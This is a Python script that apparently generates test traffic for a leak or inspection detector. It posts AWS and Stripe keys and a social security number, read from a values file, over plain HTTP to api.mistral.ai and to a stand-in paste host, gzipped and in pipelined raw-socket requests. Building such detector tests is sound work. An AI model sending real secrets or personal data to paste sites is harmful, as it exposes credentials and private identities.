"""Python clients: urllib and a raw socket in clear, TLS for the names.  argv: values file, CA file"""
import gzip
import json
import socket
import ssl
import sys
import urllib.request

v = {x["kind"]: x["value"] for x in json.load(open(sys.argv[1]))}
tls = ssl.create_default_context(cafile=sys.argv[2])


def post(url, body, **headers):
    r = urllib.request.Request(url, data=body, headers={k.replace("_", "-"): h for k, h in headers.items()})
    urllib.request.urlopen(r, timeout=10, context=tls if url.startswith("https") else None).read()


def chat(text):
    return json.dumps({"model": "mistral-large", "messages": [{"role": "user", "content": text}]}).encode()


post("http://api.mistral.ai/v1/chat/completions", chat("Übersetze: Guten Morgen"), Content_Type="application/json")
post("http://api.mistral.ai/v1/chat/completions", chat(f"José's \u201ckey\u201d is {v['aws_access_key']}\nrotate it?"),
     Content_Type="application/json")
post("http://paste.example.net/p", gzip.compress(json.dumps({"note": {"text": f"SSN {v['us_ssn']} of the applicant"}}).encode()),
     Content_Type="application/json", Content_Encoding="gzip")
post("https://api.mistral.ai/v1/chat/completions", chat("Bonjour"), Content_Type="application/json")
post("https://www.example.com/", b"x=1")
with socket.create_connection(("files.example.net", 22)) as s:
    f = s.makefile("rb")
    s.sendall(b"SSH-2.0-OpenSSH_9.2\r\n")
    f.readline()
    for _ in range(20):
        s.sendall(bytes(range(256)) * 2)
        f.read(2048)
first = json.dumps({"q": f"Stripe says {v['stripe_live_key']} is invalid"}).encode()
second = b"a plain remark about the weather"
with socket.create_connection(("paste.example.net", 80)) as s:
    s.sendall(b"POST /a HTTP/1.1\r\nHost: paste.example.net\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
              b"POST /b HTTP/1.1\nHost: paste.example.net\nContent-Type: text/plain\nConnection: close\nContent-Length: %d\n\n%s"
              % (len(first), first, len(second), second))
    while s.recv(65536):
        pass
